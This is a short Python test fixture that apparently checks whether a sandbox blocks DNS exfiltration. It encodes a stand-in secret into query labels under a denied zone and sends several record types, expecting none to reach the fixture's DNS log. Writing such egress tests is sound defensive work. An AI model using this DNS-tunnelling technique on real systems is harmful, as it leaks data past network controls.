# expect: refused
# control: reaches
# Exfiltration in the labels of a denied zone's names, through the sandbox's own resolver, several types.
import os, subprocess
secret = 'c2VjcmV0LWRhdGEtZnJvbS10aGUtc2FuZGJveA'
for qtype in ('1', '16', '28', '15'):
    name = f'{secret}.{"x" * 50}.{qtype}.{os.environ["DENIED"]}'
    subprocess.run(['python3', os.environ['CLIENT'], 'dns', name, qtype], capture_output=True, timeout=20)
# The fixture's DNS log is the oracle: none of these may reach it.
